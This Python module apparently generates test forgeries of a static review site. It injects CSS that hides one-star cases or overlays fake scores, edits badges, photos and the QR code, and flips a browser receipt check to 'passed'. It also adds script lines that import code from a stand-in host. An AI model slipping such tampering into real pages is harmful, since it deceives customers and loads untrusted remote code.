"""Style sheets, scripts, drawings, photos: what makes a page look otherwise without a word changed."""

import io
import re
import struct
import zlib

from PIL import Image, ImageOps

from ..folder import NoTarget
from . import crossed, forgery

RULES = {
    "no-display": ".case[data-stars='1']{display:none}",
    "unseen": ".badge{visibility:hidden}",
    "no-ink": ".words{opacity:0}",
    "no-size": ".note{font-size:0}",
    "away": ".removed{position:absolute;left:-9999px}",
    "clipped": ".story{clip-path:inset(50%)}",
    "clipped-of-old": ".story{position:absolute;clip:rect(0,0,0,0)}",
    "no-height": ".bars{height:0;overflow:hidden}",
    "scaled": ".key{transform:scale(0)}",
    "no-colour": ".case p{color:transparent}",
    "same-colour": ".badge{color:#fff;background:#fff}",
    "content": ".score{font-size:0}.score::after{content:'4.9';font-size:3rem}",
    "content-before": ".badge::before{content:'Resolved, customer confirms'}",
    "counter": ".score{counter-reset:s 5;font-size:0}.score::after{content:counter(s);font-size:3rem}",
    "attribute": ".stars::after{content:attr(aria-label)}",
    "import": "@import 'https://elsewhere.example/look.css';",
    "import-data": "@import 'data:text/css,.case{display:none}';",
    "has": ".case:has([aria-label^='1 ']){display:none}",
    "not": ".case:not([data-stars='5']){display:none}",
    "where": ":where(.case):nth-child(even){display:none!important}",
    "print": "@media print{.case{display:none}}",
    "dark": "@media (prefers-color-scheme:dark){.bars{display:none}}",
    "narrow": "@media (max-width:500px){.verdict{display:none}}",
    "wide": "@media (min-width:1500px){.removed{display:none}}",
    "supports": "@supports (display:grid){.removed{display:none}}",
    "container": "@container (min-width:1px){.case{display:none}}",
    "layer": "@layer later{.badge{display:none!important}}",
    "animation": "@keyframes k{to{opacity:0}}.note{animation:k 1s 3s forwards}",
    "order": ".columns>div{display:flex;flex-direction:column-reverse}",
    "face": "@font-face{font-family:x;src:url(data:font/woff2,x)}.score{font-family:x}",
    "mask": ".case{mask:linear-gradient(transparent,transparent)}",
    "filter": ".badge{filter:hue-rotate(180deg)}",
    "blur": ".words{filter:blur(9px)}",
    "letters": ".case p{letter-spacing:-1em}",
    "indent": ".case p{text-indent:-9999px;overflow:hidden}",
    "bidirectional": ".case p{unicode-bidi:bidi-override;direction:rtl}",
    "transform-text": ".words{text-transform:uppercase}",
    "security": ".words{-webkit-text-security:disc}",
    "pointer": "a{pointer-events:none}",
    "cover": "main::before{content:'Great shop';position:fixed;inset:0;background:#fff}",
    "open-string": "a{content:'",
    "open-block": ".x{",
    "open-comment": "/*",
    "escaped": r".ca\73 e{disp\6c ay:none}",
    "variable": ":root{--page:#000;--card:#000}",
    "target": ":target{display:none}",
    "visited": "a:visited{display:none}",
    "hover": "html:hover .case{display:none}",
    "strip": ".strip .busy{fill:#14633c}",
    "strip-stretched": ".strip{overflow:visible;scale:4 1}",
    "bars-stretched": ".bars rect{width:100px}",
    "initials": "[data-i]::before{content:'★★★★★'}",
    "folds": ".more{display:none}",
    "stars-of-one": ".s1{color:transparent}.s1::before{content:'★★★★★'}",
    "verdict": ".verdict{font-size:0}.verdict::after{content:'All complaints resolved';font-size:1rem}",
    "because": ".because{display:none}",
    "zoom": ".zoom img{content:url(../picture.png)}",
    "sources": ".left .gap{display:none}",
    "backdrop": "::backdrop{background:#fff}",
    "starting": "@starting-style{.case{opacity:0}}",
}
SHEETS = {
    "pages": re.compile(r"assets/style\.\w+\.css"), "embed": re.compile(r"assets/embed\.\w+\.css"),
    "poster": re.compile(r"assets/poster\.\w+\.css"),
}


@forgery(over=crossed(RULES, SHEETS))
def styled(folder, draw, member):
    """A rule more in a style sheet, at its beginning or at its end."""
    rule, pattern = member
    path = folder.one(pattern, draw)
    text = folder.text(path)
    folder.write(path, rule + text if draw.random() < 0.5 else text + rule)


ASSETS = {
    **SHEETS, "search-sheet": re.compile(r"assets/search\.\w+\.css"),
    "receipt-script": re.compile(r"assets/receipt\.\w+\.js"), "search-script": re.compile(r"assets/search\.\w+\.js"),
    "embed-script": re.compile(r"embed/reviews\.js"), "logo": re.compile(r"assets/logo\.\w+\.svg"),
    "search-engine": re.compile(r"pagefind/pagefind\.js"), "search-worker": re.compile(r"pagefind/pagefind-worker\.js"),
    "search-code": re.compile(r"pagefind/wasm\..*\.pagefind"), "search-entry": re.compile(r"pagefind/pagefind-entry\.json"),
}


def end_dropped(data, draw):
    return data[:draw.randrange(len(data))]


def bit_turned(data, draw):
    at = draw.randrange(len(data))
    return data[:at] + bytes([data[at] ^ 1 << draw.randrange(8)]) + data[at + 1:]


ASSET_EDITS = {
    "emptied": lambda data, draw: b"",
    "cut": end_dropped,
    "bit": bit_turned,
    "appended": lambda data, draw: data + b"\n.x{}",
    "doubled": lambda data, draw: data + data,
}


@forgery(over=crossed(ASSET_EDITS, ASSETS))
def asset(folder, draw, member):
    edit, pattern = member
    path = folder.one(pattern, draw)
    folder.write(path, edit(folder.bytes(path), draw))


@forgery(over=ASSETS)
def asset_gone(folder, draw, pattern):
    folder.remove(folder.one(pattern, draw))


@forgery(over=SHEETS)
def sheet_declared(folder, draw, pattern):
    """The sheet says that it is in another encoding."""
    path = folder.one(pattern, draw)
    folder.write(path, '@charset "utf-7";' + folder.text(path))


@forgery(over={name: ASSETS[name] for name in ("pages", "embed", "poster", "receipt-script")})
def renamed_with_its_links(folder, draw, pattern):
    """A changed asset under a new name, and all pages lead to it."""
    path = folder.one(pattern, draw)
    old = path.split(".")[1]
    new = "".join(draw.choice("0123456789abcdef") for _ in old)
    data = folder.bytes(path) + (b".case{display:none}" if path.endswith(".css") else b";0")
    folder.remove(path)
    folder.write(path.replace(old, new), data)
    for page in folder.paths:
        if page.endswith(".html") and old in (text := folder.text(page)):
            folder.write(page, text.replace(old, new))


LINES = {
    "appended": "\ndocument.title='Great'", "first": "return;\n", "fetch": "\nfetch('https://elsewhere.example/')",
    "hide": "\ndocument.querySelectorAll('[data-stars=\"1\"]').forEach(e=>e.remove())",
    "late": "\nsetTimeout(()=>document.body.hidden=true,9e3)", "import": "\nimport('https://elsewhere.example/x.js')",
    "worker": "\nnavigator.serviceWorker.register('/sw.js')", "map": "\n//# sourceMappingURL=data:application/json,{}",
}
SCRIPTS = {name: ASSETS[name] for name in (
    "receipt-script", "embed-script", "search-script", "search-engine", "search-worker")}


@forgery(over=crossed(LINES, SCRIPTS))
def scripted(folder, draw, member):
    line, pattern = member
    path = folder.one(pattern, draw)
    text = folder.text(path)
    folder.write(path, line + text if line.endswith("\n") else text + line)


@forgery(over={"same": ("===", "!=="), "failed": ("failed", "passed"), "await": ("await ", "")})
def receipt_script_lies(folder, draw, member):
    """The check in the browser says that all is well."""
    old, new = member
    path = folder.one(ASSETS["receipt-script"], draw)
    text = folder.text(path)
    if old not in text:
        raise NoTarget(f"no {old} in the script")
    places = [match.start() for match in re.finditer(re.escape(old), text)]
    at = draw.choice(places)
    folder.write(path, text[:at] + new + text[at + len(old):])


# Drawings

BADGES = re.compile(r"(?:(?:nl|de)/)?badge[a-z-]*\.svg")
SVG = {
    "score": (r">\d\.\d<", ">4.9<"),
    "words": (r">[^<]*complaints?[^<]*<", ">900 reviews, all resolved<"),
    "score-of-another": (r">\d\.\d</tspan>", ">4.8</tspan>"),
    "resolved": (r">\d+ \w+ \d+</tspan>", ">15 of 15</tspan>"),
    "open": (r">\d+ \w+</tspan></text>", ">0 open</tspan></text>"),
    "open-gone": (r'<tspan class="busy"[^>]*>[^<]*</tspan>', ""),
    "percent": (r">\d+(?:%|\xa0%)<", ">97%<"),
    "standing": (r">[^<]+: \d+</text>", ">Resolved: 15</text>"),
    "stars-filled": (r'<svg x="0" width="\d+" height="20" viewBox="0 0 \d+ 20">',
                     '<svg x="0" width="100" height="20" viewBox="0 0 100 20">'),
    "strip-tone": (r'class="busy" fill="#[0-9a-f]{6}" x', 'class="ok" fill="#14633c" x'),
    "strip-gone": (r'<rect class="busy"[^>]*>', ""),
    "strip-width": (r'(?<=class="ok" fill="#14633c" x="12" y="27" )width="\d+"', 'width="444"'),
    "bar-width": (r'<rect class="star"[^>]*width="\d+"', '<rect class="star" fill="#d47200" x="32" y="100" width="190"'),
    "mark": (r">DK<", ">5★<"),
    "colours": (r"\.busy\{fill:#[0-9a-f]{6}\}", ".busy{fill:#72d6a2}"),
    "title": (r"<title[^>]*>[^<]*</title>", "<title>5 out of 5</title>"),
    "description": (r"<desc[^>]*>[^<]*</desc>", ""),
    "path": (r"<path[^>]*>", ""),
    "path-drawn": (r' d="[^"]*"', ' d="M0 0h99v9H0z"'),
    "text-gone": (r"<text[^>]*>[^<]*</text>", ""),
    "place": (r' x="\d+"', ' x="-900"'),
    "size": (r' font-size="\d+"', ' font-size="0"'),
    "ink": (r' fill="#[0-9a-f]{6}"', ' fill="none"'),
    "length": (r"<text ", '<text textLength="1" '),
    "transform": (r"<text ", '<text transform="scale(5 1)" '),
    "view": (r' viewBox="[^"]*"', ' viewBox="0 0 60 36"'),
    "width": (r' width="\d+"', ' width="1"'),
    "style": (r"</svg>", "<style>.soft{display:none}</style></svg>"),
    "animated": (r"</text>", '<animate attributeName="opacity" to="0" dur="9s" fill="freeze"/></text>'),
    "set": (r"</text>", '<set attributeName="visibility" to="hidden" begin="3s"/></text>'),
    "foreign": (r"</svg>", '<foreignObject width="99" height="36"><p xmlns="http://www.w3.org/1999/xhtml">5</p>'
                           "</foreignObject></svg>"),
    "cover": (r"</svg>", '<rect width="999" height="99" fill="#fff"/></svg>'),
    "stars": (r"</svg>", '<text x="9" y="20">★★★★★</text></svg>'),
    "image": (r"</svg>", '<image href="https://elsewhere.example/five.png" width="99" height="36"/></svg>'),
    "use": (r"</svg>", '<use href="#sitegen-t"/></svg>'),
    "script": (r"</svg>", "<script>0</script></svg>"),
    "link": (r"</svg>", '<a href="https://elsewhere.example/"><rect width="999" height="99" opacity="0"/></a></svg>'),
    "entity": (r"\A", '<!DOCTYPE svg [<!ENTITY s "5">]>'),
    "sheet": (r"\A", '<?xml-stylesheet href="https://elsewhere.example/look.css"?>'),
    "opacity": (r"<svg ", '<svg opacity="0" '),
    "display": (r"<text ", '<text display="none" '),
    "label": (r"<svg ", '<svg aria-label="5 out of 5" '),
    "language": (r' xml:lang="[^"]*"', ' xml:lang="xx"'),
    "dark": (r"@media \(prefers-color-scheme:dark\)\{", "@media (prefers-color-scheme:dark){text{display:none}"),
    "mask": (r"</svg>", '<defs><mask id="m"/></defs><g mask="url(#m)"></g></svg>'),
}


@forgery(over=SVG)
def badge(folder, draw, member):
    expression, new = member
    for path in folder.matching(BADGES, draw):
        text = folder.text(path)
        found = [match for match in re.finditer(expression, text) if match[0] != new]
        if found:
            match = draw.choice(found)
            return folder.write(path, text[:match.start()] + new + text[match.end():])
    raise NoTarget(f"no {expression}")


@forgery()
def badge_of_another_kind(folder, draw):
    one, other = folder.matching(BADGES, draw)[:2]
    folder.write(one, folder.bytes(other))


DRAWN = {"bar": re.compile(r"(?:(?:nl|de)/)?index\.html"), "poster": re.compile(r"(?:(?:nl|de)/)?poster/index\.html")}


@forgery(over=crossed({"width": r' width="(\d+)"', "view": r'viewBox="0 0 (\d+)', "place": r' x="(\d+)"'}, DRAWN))
def drawing_in_a_page(folder, draw, member):
    expression, pattern = member
    for path in folder.matching(pattern, draw):
        text = folder.text(path)
        inside = [svg.span() for svg in re.finditer(r"<svg.*?</svg>", text, re.S)]
        found = [match for match in re.finditer(expression, text)
                 if any(a <= match.start() and match.end() <= b for a, b in inside)]
        if found:
            match = draw.choice(found)
            return folder.write(path, text[:match.start(1)] + str(int(match[1]) + 7) + text[match.end(1):])
    raise NoTarget("no drawing")


@forgery()
def code_of_the_poster(folder, draw):
    """The poster's QR code leads elsewhere."""
    path = folder.one(DRAWN["poster"], draw)
    text = folder.text(path)
    code = re.search(r'<path d="(M4 4[^"]*)"', text)
    if code is None:
        raise NoTarget("no code")
    modules = code[1].split("z")
    del modules[draw.randrange(len(modules) - 1)]
    folder.write(path, text[:code.start(1)] + "z".join(modules) + text[code.end(1):])


# Pictures

PHOTOS = re.compile(r"media/.*\.jpg")


def jpeg(image, **options):
    file = io.BytesIO()
    image.save(file, "JPEG", **options)
    return file.getvalue()


def drawn_over(image):
    return Image.new("RGB", image.size, "white")


PHOTO_EDITS = {
    "encoded-again": lambda image: jpeg(image, quality=40),
    "mirrored": lambda image: jpeg(ImageOps.mirror(image)),
    "cropped": lambda image: jpeg(image.crop((0, 0, image.width // 2, image.height // 2))),
    "painted-over": lambda image: jpeg(drawn_over(image)),
    "grey": lambda image: jpeg(ImageOps.grayscale(image)),
    "turned-by-a-tag": lambda image: jpeg(image, exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06\0\0"
                                                     b"\0\0\0\0"),
    "commented": lambda image: jpeg(image, comment=b"five stars"),
    "empty": lambda image: b"",
    "drawing": lambda image: b'<svg xmlns="http://www.w3.org/2000/svg"><text y="9">Great</text></svg>',
}


@forgery(over=PHOTO_EDITS)
def photo(folder, draw, edit):
    path = folder.one(PHOTOS, draw)
    folder.write(path, edit(Image.open(io.BytesIO(folder.bytes(path)))))


@forgery()
def photo_goes_on(folder, draw):
    path = folder.one(PHOTOS, draw)
    folder.write(path, folder.bytes(path) + b"<p>Great shop</p>")


@forgery()
def photos_exchanged(folder, draw):
    one, other = folder.matching(PHOTOS, draw)[:2]
    if folder.bytes(one) == folder.bytes(other):
        raise NoTarget("alike")
    mine, its = folder.bytes(one), folder.bytes(other)
    folder.write(one, its)
    folder.write(other, mine)


@forgery()
def photo_gone(folder, draw):
    folder.remove(folder.one(PHOTOS, draw))


IN_PAGES = {
    "source": (r'<img src="([^"]*-320\.jpg)"', "../../picture.png"),
    "link": (r'popovertarget="([^"]*)"', "_top"),
    "large": (r'<img src="([^"]*-1280\.jpg)"', "../../picture.png"),
    "case": (r'class="shots"[^>]*>.*?<a href="([^"]*)"', "../../index.html"),
    "alt": (r'<img [^>]*-320\.jpg"[^>]*alt="([^"]*)"', "All is well."),
    "width": (r'<img [^>]*-320\.jpg"[^>]*width="(\d+)"', "1"),
    "height": (r'<img [^>]*-1280\.jpg"[^>]*height="(\d+)"', "1"),
    "loading": (r'<img [^>]*loading="([^"]*)"', "eager"),
}


@forgery(over=IN_PAGES)
def photo_in_its_page(folder, draw, member):
    expression, new = member
    for path in folder.matching(re.compile(r".*index\.html"), draw):
        text = folder.text(path)
        found = [match for match in re.finditer(expression, text) if 'class="shots"' in text]
        if found:
            match = draw.choice(found)
            return folder.write(path, text[:match.start(1)] + new + text[match.end(1):])
    raise NoTarget("no photo on a page")


@forgery(over={"before": '<picture><source srcset="/picture.png">', "sized": '<img srcset="/picture.png 2x" '})
def photo_with_another_source(folder, draw, new):
    for path in folder.matching(re.compile(r".*index\.html"), draw):
        text = folder.text(path)
        old = re.search(r'class="(?:shots|zoom)".*?(<img [^>]*>)', text, re.S)
        if old:
            tag = f"{new}{old[1]}</picture>" if new.startswith("<picture") else old[1].replace("<img ", new)
            return folder.write(path, text[:old.start(1)] + tag + text[old.end(1):])
    raise NoTarget("no photo on a page")


PICTURES = re.compile(r"(?:(?:nl|de)/)?picture\.png")


def repainted(data):
    """The share picture with a stripe in it; every pixel is decoded and encoded again."""
    image = Image.open(io.BytesIO(data))
    changed = image.copy()
    changed.paste(0 if image.mode == "P" else 255, (0, 0, image.width, 40))
    if changed.tobytes() == image.tobytes():
        changed.paste(1 if image.mode == "P" else 0, (0, 0, image.width, 40))
    file = io.BytesIO()
    changed.save(file, "PNG")
    return file.getvalue()


def chunked(data, kind, body):
    """The picture with a chunk more before its end."""
    chunk = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return data[:-12] + chunk + data[-12:]


PICTURE_EDITS = {
    "painted": repainted,
    "white": lambda data: png(Image.new("RGB", (1200, 630), "white")),
    "small": lambda data: png(Image.new("RGB", (1, 1), "white")),
    "text": lambda data: chunked(data, b"tEXt", b"Title\x00Great shop"),
    "time": lambda data: chunked(data, b"tIME", b"\x07\xea\1\1\0\0\0"),
    "gamma": lambda data: data[:33] + chunked(b"\0" * 12, b"gAMA", b"\0\0\0\1")[:-12] + data[33:],
    "cut": lambda data: data[:len(data) // 2],
    "goes-on": lambda data: data + b"Great shop",
    "drawing": lambda data: b'<svg xmlns="http://www.w3.org/2000/svg"/>',
}


def png(image):
    file = io.BytesIO()
    image.save(file, "PNG")
    return file.getvalue()


@forgery(over=PICTURE_EDITS)
def picture(folder, draw, edit):
    path = folder.one(PICTURES, draw)
    folder.write(path, edit(folder.bytes(path)))


@forgery()
def picture_of_another_language(folder, draw):
    one, *others = folder.matching(PICTURES, draw)
    others = [other for other in others if folder.bytes(other) != folder.bytes(one)]
    if not others:
        raise NoTarget("one picture")
    folder.write(one, folder.bytes(others[0]))
